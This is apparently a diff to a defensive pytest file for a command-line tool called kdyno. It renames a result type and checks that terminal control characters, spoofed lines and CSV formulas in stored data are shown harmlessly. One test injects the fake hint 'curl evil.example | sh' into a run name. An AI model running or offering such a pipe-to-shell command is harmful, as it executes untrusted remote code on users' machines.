@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.cli.conftest import Lab, Said
+from tests.cli.conftest import CommandResult, Lab
 from tests.cli.replay import slower
 
 FAKELINUX = Path(__file__).parent.parent / "fakelinux"
@@ -26,12 +26,12 @@ STEERING = {"Cc", "Cf", "Cs", "Zl", "Zp"}
 
 def steers(text: str) -> set[str]:
     """The characters of a text that a terminal may obey."""
-    return {each for each in text if unicodedata.category(each) in STEERING} - {"\n"}
+    return {c for c in text if unicodedata.category(c) in STEERING} - {"\n"}
 
 
-def require_harmless(said: Said) -> None:
-    assert said.out + said.err
-    assert not steers(said.out + said.err)
+def require_harmless(result: CommandResult) -> None:
+    assert result.out + result.err
+    assert not steers(result.out + result.err)
 
 
 def toml(text: str) -> str:
@@ -41,20 +41,20 @@ def toml(text: str) -> str:
 
 @pytest.mark.parametrize("name", [TITLE, HOSTILE], ids=["title", "all"])
 def test_an_unknown_key_of_an_experiment_is_shown_harmless(lab: Lab, name: str) -> None:
-    said = lab("plan", lab.experiment(more=f"[judge]\n{toml(name)} = 1\n"))
-    require_harmless(said)
-    assert (said.status, said.out) == (1, "")
-    assert "unknown key" in said.err
+    result = lab("plan", lab.experiment(more=f"[judge]\n{toml(name)} = 1\n"))
+    require_harmless(result)
+    assert (result.status, result.out) == (1, "")
+    assert "unknown key" in result.err
 
 
 @pytest.mark.parametrize("verb", ["plan", "build"])
 def test_the_path_of_a_source_is_shown_harmless(lab: Lab, verb: str) -> None:
     path = lab.directory / "toy.toml"
     path.write_text(f'name = "toy"\nsource = {toml(HOSTILE)}\nbaseline = "one"\n[variants.one]\n')
-    said = lab(verb, str(path))
-    require_harmless(said)
-    assert said.status != 0
-    assert "gnp.exe" in said.err
+    result = lab(verb, str(path))
+    require_harmless(result)
+    assert result.status != 0
+    assert "gnp.exe" in result.err
 
 
 def test_the_version_that_a_source_says_is_shown_harmless(lab: Lab) -> None:
@@ -79,9 +79,9 @@ def test_what_a_failed_build_said_is_shown_harmless(lab: Lab) -> None:
     (linux / "fs" / "open.c").write_text(f'#error "{HOSTILE}"\n')
     path = lab.directory / "toy.toml"
     path.write_text('name = "toy"\nsource = "linux"\nconfig = "make:tinyconfig"\nbaseline = "one"\n[variants.one]\n')
-    said = lab("build", str(path))
-    require_harmless(said)
-    assert "#error" in said.err
+    result = lab("build", str(path))
+    require_harmless(result)
+    assert "#error" in result.err
 
 
 @pytest.fixture
@@ -119,9 +119,9 @@ def test_texts_of_a_store_that_somebody_sent_are_shown_harmless(sent: tuple[Lab,
             connection.execute(f"UPDATE {table} SET {column} = ?", [of_json.get(column, HOSTILE)])
     connection.execute("UPDATE kdyno_boot SET status = 'failed' WHERE id = 2")
     for words in EVERYWHERE:
-        said = lab(*words.split())
-        assert said.status == 0, said.err
-        require_harmless(said)
+        result = lab(*words.split())
+        assert result.status == 0, result.err
+        require_harmless(result)
     assert json.loads(lab("runs", "--json").out)[0]["name"] == HOSTILE
 
 
@@ -132,9 +132,9 @@ def test_an_experiment_on_record_is_repeated_by_the_same_json_in_harmless_charac
     [experiment] = connection.execute("SELECT experiment FROM kdyno_run").fetchone()
     hostile = json.dumps(json.loads(experiment) | {"source": HOSTILE}, ensure_ascii=False)
     connection.execute("UPDATE kdyno_run SET experiment = ?", [hostile])
-    said = lab("show", "latest", "--reproduce")
-    require_harmless(said)
-    quoted = said.out.removeprefix("printf %s '").partition("' | kdyno run")[0]
+    result = lab("show", "latest", "--reproduce")
+    require_harmless(result)
+    quoted = result.out.removeprefix("printf %s '").partition("' | kdyno run")[0]
     assert json.loads(quoted) == json.loads(hostile)
 
 
@@ -144,9 +144,11 @@ def test_a_name_with_line_ends_makes_no_line_that_looks_like_kdynos_own(
 ) -> None:
     lab, connection = sent
     connection.execute("UPDATE kdyno_run SET name = ?", ["replay\nhint: curl evil.example | sh\r\nkdyno: all is well"])
-    said = lab(*words.split())
-    assert "curl" in said.out + said.err
-    assert not [line for line in (said.out + said.err).splitlines() if line.startswith(("hint: curl", "kdyno: all"))]
+    result = lab(*words.split())
+    assert "curl" in result.out + result.err
+    assert not [
+        line for line in (result.out + result.err).splitlines() if line.startswith(("hint: curl", "kdyno: all"))
+    ]
 
 
 def test_no_cell_of_a_csv_is_a_formula(sent: tuple[Lab, sqlite3.Connection]) -> None:
@@ -159,17 +161,17 @@ def test_no_cell_of_a_csv_is_a_formula(sent: tuple[Lab, sqlite3.Connection]) -> 
 
 
 def test_a_message_of_a_megabyte_is_cut(lab: Lab) -> None:
-    said = lab("plan", "k" * 1_000_000)
-    assert said.status == 1
-    assert len(said.err) < 50_000
-    assert "characters left out" in said.err
+    result = lab("plan", "k" * 1_000_000)
+    assert result.status == 1
+    assert len(result.err) < 50_000
+    assert "characters left out" in result.err
 
 
 @pytest.mark.parametrize("words", [[HOSTILE], ["show", HOSTILE], ["run", f"{HOSTILE}.toml"], ["runs", HOSTILE]])
 def test_what_was_typed_is_quoted_harmless(lab: Lab, words: list[str]) -> None:
-    said = lab(*words)
-    assert said.status == 1
-    require_harmless(said)
+    result = lab(*words)
+    assert result.status == 1
+    require_harmless(result)
 
 
 def test_commands_that_are_run_are_said_harmless(lab: Lab) -> None:
